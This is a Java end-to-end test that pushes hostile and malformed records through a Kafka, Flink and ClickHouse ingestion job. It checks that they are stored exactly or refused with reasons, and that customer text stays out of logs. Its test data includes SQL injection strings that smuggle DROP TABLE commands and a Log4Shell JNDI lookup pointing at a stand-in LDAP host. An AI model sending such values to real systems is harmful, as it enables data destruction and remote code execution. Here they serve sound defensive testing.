package io.cxpulse.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.cxpulse.job.JobSinks;
import io.cxpulse.job.JobSources;
import io.cxpulse.local.LocalFlink;
import io.cxpulse.model.Topics;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.flink.api.common.JobStatus;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile and odd records of every kind through a real Kafka broker into the running job (Flink mini-cluster with
 * RocksDB) and a real ClickHouse server. Odd but valid ones land in {@code events} byte for byte as sent, whatever
 * their text: SQL, quotes, backslashes, every control character, line separators, 4-byte emoji, 100,000 characters,
 * nothing. Refused ones land in {@code ingest_errors} and on {@code cx.dead-letter} with the reason that names their
 * fault. The job never fails (it runs without restarts, so one failure would end it), the tables stay, a valid event
 * sent last still lands, and nothing the job, Flink or the clients log holds a word of the customers' texts.
 */
class HostileInputEndToEndTest {

    private static final String DB = "hostile";
    private static final int MAX_RECORD_BYTES = 512 * 1024;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HexFormat HEX = HexFormat.of().withUpperCase();

    /** In every customer text: a log line that holds one of these has leaked customer text. */
    private static final String CANARY = "Kanarienvogel";
    private static final String PROFILE_NAME = "O'Brien\"; DROP TABLE customers; -- \t\u0000 " + CANARY;

    @TempDir
    static Path dir;

    private final Instant now = Instant.now();
    private final List<ProducerRecord<byte[], byte[]>> batch = new ArrayList<>();
    /** event_id → the text that must come back from ClickHouse exactly. */
    private final Map<String, String> acceptedTexts = new LinkedHashMap<>();
    /** Kafka key → what its reason must contain, and the field it must name ("" for the whole record). */
    private final Map<String, String[]> refused = new LinkedHashMap<>();
    private int serial;

    @Test
    void oddRecordsLandExactlyBadOnesAreExplainedAndNoTextReachesTheLogs() throws Exception {
        try (CapturedLogs logs = new CapturedLogs();
                LocalStack stack = new LocalStack(dir, DB, "--max-record-bytes", Integer.toString(MAX_RECORD_BYTES));
                LocalFlink job = LocalFlink.start(stack.config, JobSources.kafka(stack.config),
                        JobSinks.production(stack.config), dir.resolve("flink"), 0, false)) {
            job.awaitRunning(Duration.ofSeconds(60));

            oddButValid();
            refusedRecords();
            // one event_id, two bodies, one Kafka key (so one partition): the first wins, the second is dropped
            add(Topics.COMPLAINTS, "c-dup", complaint("dup-1", "c-dup", "the first body " + CANARY));
            add(Topics.COMPLAINTS, "c-dup", complaint("dup-1", "c-dup", "a second body " + CANARY).put("status", "closed"));
            acceptedTexts.put("dup-1", "the first body " + CANARY);
            stack.sendAll(batch);

            awaitRows(stack, acceptedTexts.size(), refused.size());

            // far in the past: stored, and flagged late once the watermark has passed it (all partitions idle first)
            Thread.sleep(4_000);
            batch.clear();
            String longAgo = "2001-02-03T04:05:06.789+08:00";
            add(Topics.COMPLAINTS, "c-past", complaint("past-1", "c-past", "from long ago " + CANARY).put("event_time", longAgo));
            acceptedTexts.put("past-1", "from long ago " + CANARY);
            // last of all, an ordinary event: the job is still reading
            add(Topics.CLICKS, "c-last", JSON.createObjectNode().put("event_id", "last-1").put("event_time", now.toString())
                    .put("customer_id", "c-last").put("session_id", "s").put("page", "/").put("action", "view"));
            acceptedTexts.put("last-1", null);
            stack.sendAll(batch);
            awaitRows(stack, acceptedTexts.size(), refused.size());

            assertThat(job.status()).isEqualTo(JobStatus.RUNNING);
            assertTextsCameBackExactly(stack);
            assertThat(stack.count("SELECT count() FROM " + DB + ".events WHERE event_id = 'dup-1'"))
                    .as("the second body of dup-1 is dropped, not stored beside the first").isEqualTo(1);
            assertThat(stack.clickhouse.query("SELECT concat(kind, '|', toString(event_time_ms)) FROM " + DB
                    + ".events FINAL WHERE event_id = 'dup-1'").trim()).isEqualTo("opened|" + now.toEpochMilli());
            assertThat(stack.clickhouse.query("SELECT concat(toString(late), '|', toString(event_time_ms)) FROM " + DB
                    + ".events FINAL WHERE event_id = 'past-1'").trim())
                    .isEqualTo("1|" + OffsetDateTime.parse(longAgo).toInstant().toEpochMilli());
            assertThat(hex(stack, "payload", "event_id = 'bom-1'")).startsWith("EFBBBF7B");
            assertThat(stack.clickhouse.query("SELECT concat(hex(name), '|', arrayStringConcat(handles, ',')) FROM " + DB
                    + ".customers FINAL WHERE customer_id = 'c-odd'").trim())
                    .isEqualTo(HEX.formatHex(bytes(PROFILE_NAME)) + "|@odd 😀");
            assertThat(stack.count("SELECT count() FROM " + DB + ".events FINAL WHERE event_id = 'newer-1' "
                    + "AND payload LIKE '%\"consent\":{\"sms\":true}%'")).isEqualTo(1);

            assertRefusalsExplained(stack);
            assertThat(stack.count("SELECT count() FROM system.tables WHERE database = '" + DB + "' AND name IN "
                    + "('events', 'ingest_errors', 'customers', 'customer_scores', 'alerts', 'metrics_1m')")).isEqualTo(6);

            String logged = logs.text();
            assertThat(logged).as("the capture works: it holds the job's start and Flink's INFO lines")
                    .contains("started experience-monitor").contains("INFO org.apache.flink.");
            assertThat(logged.lines().filter(l -> l.contains(CANARY) || l.contains("DROP TABLE") || l.contains("13800138000")))
                    .as("log lines with customer text").isEmpty();
        }
    }

    private void oddButValid() {
        StringBuilder controls = new StringBuilder();
        for (char c = 0; c < 0x20; c++) {
            controls.append(c);
        }
        List<String> texts = List.of(
                "'); DROP TABLE cxpulse.events; DROP TABLE " + DB + ".events; --",
                "quotes ' \" `, backslashes \\ \\\\ \\' \\N, and NULL",
                controls.toString(),
                "tab\tnew\nline\r\n, line\u2028and paragraph\u2029separators",
                "4-byte 😡🤬👍🏽 𝕏 𠀀 and 漢字, right-to-left \u202eoverride\u202c, zero width \u200b\u200d",
                "log4j ${jndi:ldap://x.example/a} ${env:HOME} %s %n {} {0}",
                "my phone is 13800138000");
        for (String text : texts) {
            String id = "odd-" + ++serial;
            add(Topics.COMPLAINTS, "c-odd", complaint(id, "c-odd", text + " " + CANARY));
            acceptedTexts.put(id, text + " " + CANARY);
        }
        add(Topics.COMPLAINTS, "c-odd", complaint("empty-1", "c-odd", ""));
        acceptedTexts.put("empty-1", "");

        String text = CANARY + " " + "漢a😀 ".repeat(25_000);
        String long100k = text.substring(0, text.offsetByCodePoints(0, 100_000));
        assertThat(long100k.codePointCount(0, long100k.length())).isEqualTo(100_000);
        add(Topics.SOCIAL_MENTIONS, "c-odd", mention("long-1", long100k));
        acceptedTexts.put("long-1", long100k);

        String sqlId = "id'); DROP TABLE " + DB + ".ingest_errors; --";
        add(Topics.SERVICE_EVENTS, "c-odd", JSON.createObjectNode().put("event_id", sqlId).put("event_time", now.toString())
                .put("customer_id", "c-odd").put("type", "nps_response").put("score", 2).put("text", "\\'; " + CANARY));
        acceptedTexts.put(sqlId, "\\'; " + CANARY);

        // a producer that is ahead: within --max-future-skew (1 h) of its Kafka timestamp
        add(Topics.COMPLAINTS, "c-odd", complaint("ahead-1", "c-odd", "ahead " + CANARY)
                .put("event_time", now.plus(Duration.ofMinutes(30)).toString()));
        acceptedTexts.put("ahead-1", "ahead " + CANARY);

        // an older producer (required fields only) and a newer one (fields we do not know yet)
        add(Topics.COMPLAINTS, "c-odd", JSON.createObjectNode().put("event_id", "older-1").put("event_time", now.toString())
                .put("customer_id", "c-odd").put("complaint_id", "k-older").put("channel", "email").put("status", "opened")
                .put("text", "older " + CANARY));
        acceptedTexts.put("older-1", "older " + CANARY);
        ObjectNode newer = complaint("newer-1", "c-odd", "newer " + CANARY).put("schema_version", 2);
        newer.putObject("consent").put("sms", true);
        add(Topics.COMPLAINTS, "c-odd", newer);
        acceptedTexts.put("newer-1", "newer " + CANARY);

        add(Topics.COMPLAINTS, "c-odd", bytes("\ufeff" + complaint("bom-1", "c-odd", "bom " + CANARY)));
        acceptedTexts.put("bom-1", "bom " + CANARY);

        // a profile is personal data too: its name lands exactly, and never in a log
        ObjectNode profile = JSON.createObjectNode().put("customer_id", "c-odd").put("updated_at", now.toString())
                .put("name", PROFILE_NAME).put("tier", "vip");
        profile.putObject("handles").put("weibo", "@odd 😀");
        add(Topics.CUSTOMERS, "c-odd", profile);
    }

    private void refusedRecords() {
        refuse("not-utf8", "not valid UTF-8: malformed byte sequence at byte offset", "",
                ("{\"text\":\"caf\u00e9 " + CANARY + "\"}").getBytes(StandardCharsets.ISO_8859_1));
        byte[] huge = bytes(complaint("huge-1", "c-bad", CANARY + " " + "x".repeat(MAX_RECORD_BYTES)).toString());
        refuse("huge", "record too large: " + huge.length + " bytes, limit " + MAX_RECORD_BYTES, "", huge);
        refuse("deep", "nesting depth (33) exceeds the maximum allowed (32", "",
                bytes("{\"text\":\"" + CANARY + "\",\"x\":" + "[".repeat(40) + "]".repeat(40) + "}"));
        refuse("wrong-type", "string found, integer expected", "$.author_followers",
                mention("wt-1", CANARY).put("author_followers", "many"));
        ObjectNode missing = complaint("miss-1", "c-bad", CANARY);
        missing.remove("status");
        refuse("missing", "required property 'status' not found", "$.status", missing);
        refuse("unknown-enum", "does not have a value in the enumeration", "$.channel",
                complaint("enum-1", "c-bad", CANARY).put("channel", "pigeon"));
        refuse("future", "ahead of the record's Kafka timestamp (limit 3600 s)", "$.event_time",
                complaint("fut-1", "c-bad", CANARY).put("event_time", now.plus(Duration.ofDays(2)).toString()));
        refuse("year-overflow", "not an ISO-8601 date-time with a zone", "$.event_time",
                complaint("fut-2", "c-bad", CANARY).put("event_time", "+999999999-12-31T23:59:59Z"));
        refuse("before-2000", "before 2000-01-01T00:00:00Z", "$.event_time",
                complaint("past-0", "c-bad", CANARY).put("event_time", "1999-12-31T23:59:59Z"));
        refuse("exponent", "number out of range: its exponent is beyond", "$.severity", bytes(
                complaint("exp-1", "c-bad", CANARY).toString().replace("\"severity\":3", "\"severity\":-1E-2091397212")));
        refuse("surrogate", "unpaired UTF-16 surrogate", "$.text",
                bytes(complaint("sur-1", "c-bad", "PLACEHOLDER").toString().replace("PLACEHOLDER", CANARY + "\\ud800")));
        refuse("too-long-text", "must be at most 100,000 characters long", "$.text",
                mention("long-2", CANARY + "x".repeat(100_000)));
        refuse("renewal-9999", "outside the years 2000 to 2099", "$.contract_renewal_date",
                JSON.createObjectNode().put("customer_id", "c-bad").put("updated_at", now.toString())
                        .put("name", CANARY).put("contract_renewal_date", "9999-12-31"));
        refuse("bare-words", "not valid JSON: Unrecognized token '…'", "",
                bytes(complaint("bare-1", "c-bad", "PLACEHOLDER").toString().replace("\"PLACEHOLDER\"", CANARY + " words")));
    }

    private void assertTextsCameBackExactly(LocalStack stack) {
        for (Map.Entry<String, String> e : acceptedTexts.entrySet()) {
            String where = "event_id = unhex('" + HEX.formatHex(bytes(e.getKey())) + "')";
            assertThat(stack.count("SELECT count() FROM " + DB + ".events FINAL WHERE " + where)).as(e.getKey()).isEqualTo(1);
            if (e.getValue() != null) {
                assertThat(hex(stack, "text", where)).as("text of %s", e.getKey()).isEqualTo(HEX.formatHex(bytes(e.getValue())));
            }
        }
    }

    private void assertRefusalsExplained(LocalStack stack) throws IOException {
        Map<String, JsonNode> deadLetters = new HashMap<>();
        for (String line : consume(stack, Topics.DEAD_LETTER).split("\n")) {
            if (!line.isBlank()) {
                JsonNode letter = JSON.readTree(line);
                deadLetters.put(letter.path("record_key").asText(), letter);
            }
        }
        for (Map.Entry<String, String[]> r : refused.entrySet()) {
            String key = r.getKey();
            JsonNode row = JSON.readTree(stack.clickhouse.query("SELECT reason, field, payload_encoding, payload_bytes, "
                    + "payload_truncated FROM " + DB + ".ingest_errors FINAL WHERE record_key = '" + key + "' FORMAT JSONEachRow"));
            String reason = row.get("reason").asText();
            assertThat(reason).as("reason for %s", key).contains(r.getValue()[0]).doesNotContain(CANARY);
            assertThat(row.get("field").asText()).as("field for %s", key).isEqualTo(r.getValue()[1]);
            assertThat(deadLetters.get(key)).as("dead letter for %s", key).isNotNull();
            assertThat(deadLetters.get(key).get("reason").asText()).isEqualTo(reason);
            if (key.equals("not-utf8")) {
                assertThat(row.get("payload_encoding").asText()).isEqualTo("base64");
            }
            if (key.equals("huge")) {
                assertThat(row.get("payload_bytes").asText() + "|" + row.get("payload_truncated").asText())
                        .isEqualTo(r.getValue()[2] + "|1");
            }
        }
    }

    /** The topic's committed records through {@code cxpulse consume}, as a user reads them. */
    private static String consume(LocalStack stack, String topic) {
        ByteArrayOutputStream buffer = new ByteArrayOutputStream();
        PrintStream original = System.out;
        System.setOut(new PrintStream(buffer, true, StandardCharsets.UTF_8));
        try {
            int exit = io.cxpulse.cli.CxPulse.execute("consume", "--topic", topic, "--from-beginning", "--timeout", "2s",
                    "--kafka-bootstrap-servers", stack.kafka.bootstrapServers());
            assertThat(exit).as("consume exit code").isZero();
        } finally {
            System.setOut(original);
        }
        return buffer.toString(StandardCharsets.UTF_8);
    }

    private void awaitRows(LocalStack stack, int events, int errors) throws InterruptedException {
        LocalStack.await(events + " events and " + errors + " ingest errors", Duration.ofSeconds(45),
                () -> stack.count("SELECT count() FROM " + DB + ".events FINAL") == events
                        && stack.count("SELECT count() FROM " + DB + ".ingest_errors FINAL") == errors,
                () -> stack.clickhouse.query("SELECT concat(toString(count()), ' events') FROM " + DB + ".events FINAL").trim()
                        + ", " + stack.clickhouse.query("SELECT count() FROM " + DB + ".ingest_errors FINAL").trim() + " errors");
    }

    private static String hex(LocalStack stack, String column, String where) {
        return stack.clickhouse.query("SELECT hex(" + column + ") FROM " + DB + ".events FINAL WHERE " + where).trim();
    }

    private void refuse(String key, String reason, String field, Object record) {
        refused.put(key, new String[] {reason, field, Integer.toString(record instanceof byte[] b ? b.length : 0)});
        add(topicOf(record), key, record);
    }

    private static String topicOf(Object record) {
        if (record instanceof ObjectNode n && n.has("updated_at")) {
            return Topics.CUSTOMERS;
        }
        return record instanceof ObjectNode n && n.has("author_handle") ? Topics.SOCIAL_MENTIONS : Topics.COMPLAINTS;
    }

    private void add(String topic, String key, Object record) {
        byte[] value = record instanceof byte[] b ? b : bytes(record.toString());
        batch.add(new ProducerRecord<>(topic, key.getBytes(StandardCharsets.UTF_8), value));
    }

    private ObjectNode complaint(String id, String customer, String text) {
        return JSON.createObjectNode().put("event_id", id).put("event_time", now.toString()).put("customer_id", customer)
                .put("complaint_id", "k-" + id).put("channel", "app").put("status", "opened").put("severity", 3)
                .put("text", text);
    }

    private ObjectNode mention(String id, String text) {
        return JSON.createObjectNode().put("event_id", id).put("event_time", now.toString()).put("customer_id", "c-odd")
                .put("platform", "weibo").put("author_handle", "@odd").put("author_followers", 1200).put("text", text);
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }
}
